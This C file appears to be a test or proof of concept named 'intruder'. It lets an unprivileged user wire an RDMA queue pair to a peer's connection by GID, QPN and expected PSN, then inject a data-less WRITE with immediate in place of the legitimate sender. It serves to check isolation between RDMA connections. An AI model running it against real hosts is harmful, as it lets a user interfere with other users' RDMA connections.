// SPDX-License-Identifier: GPL-2.0
/*
 * An unprivileged user who may open the device sends to a QP of this host's
 * peer, from his own QP in place of the one that the peer's QP is wired to. Not
 * for root.
 *
 * usage: intruder DEVICE GID QPN PSN
 *
 * GID and QPN are those of the peer's QP, PSN is what it expects next. Posts
 * one WRITE with immediate and without data, which names no memory. The
 * acknowledgment goes to the QP that the peer's QP is wired to; prints how the
 * WRITE ended here.
 */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "../../tools/lib/fail.h"
#include "../../tools/verbs/cq.h"
#include "../../tools/verbs/hca.h"
#include "../../tools/verbs/rc.h"

#define POLLS		500
#define POLL_US		10000

static void die(const char *what)
{
	fprintf(stderr, "intruder: %s\n", what);
	exit(EXIT_FAILURE);
}

/* Take @qp to RTS; it sends from @psn on. */
static int wire(struct rcv_qp *qp, struct rcv_hca *hca,
		const union ibv_gid *gid, uint32_t qpn, uint32_t psn,
		char *err)
{
	struct rcv_wiring wiring = {
		.port = hca->port,
		.mtu = hca->port_attr.active_mtu,
		.min_rnr_timer = 12,
		.timeout = 14,
		.ah = {
			.port_num = hca->port,
			.is_global = 1,
			.grh = {
				.dgid = *gid,
				.sgid_index = rcv_hca_gid(hca)->index,
				.hop_limit = 64,
			},
		},
	};
	int ret;

	qp->psn = psn;
	ret = rcv_qp_to_init(qp, &wiring, err);
	if (!ret)
		ret = rcv_qp_to_rtr(qp, &wiring, qpn, 0, err);
	return ret ? ret : rcv_qp_to_rts(qp, &wiring, err);
}

static void write_imm(struct rcv_qp *qp, struct rcv_cq *cq)
{
	struct ibv_send_wr wr = {
		.opcode = IBV_WR_RDMA_WRITE_WITH_IMM,
		.send_flags = IBV_SEND_SIGNALED,
	};
	struct rcv_wc wc;
	int i;

	if (rcv_qp_send(qp, &wr))
		die("the WRITE cannot be posted");
	for (i = 0; i < POLLS; i++, usleep(POLL_US)) {
		if (rcv_cq_poll(cq, &wc, 1) != 1)
			continue;
		printf("as user %u: %s\n", geteuid(),
		       ibv_wc_status_str(wc.status));
		return;
	}
	die("the WRITE does not end");
}

int main(int argc, char **argv)
{
	const struct rcv_qp_size size = { .sends = 1, .recvs = 1, .sges = 1 };
	char err[RCL_ERR_LEN] = "no protection domain";
	struct rcv_cq cq = { 0 };
	struct rcv_qp qp = { 0 };
	struct rcv_hca hca;
	union ibv_gid gid;
	struct ibv_pd *pd;

	if (argc != 5 || inet_pton(AF_INET6, argv[2], &gid) != 1)
		return 2;
	if (!geteuid())
		die("root may do all of this anyway");
	if (rcv_hca_open(&hca, argv[1], 0, &rcl_gid_any, err))
		die(err);
	pd = ibv_alloc_pd(hca.ctx);
	if (!pd || rcv_cq_create(&cq, hca.ctx, 4, 0, err) ||
	    rcv_qp_create(&qp, pd, cq.cq, &size, err) ||
	    wire(&qp, &hca, &gid, strtoul(argv[3], NULL, 0),
		 strtoul(argv[4], NULL, 0), err))
		die(err);
	write_imm(&qp, &cq);
	rcv_qp_destroy(&qp);
	rcv_cq_destroy(&cq);
	ibv_dealloc_pd(pd);
	rcv_hca_close(&hca);
	return 0;
}
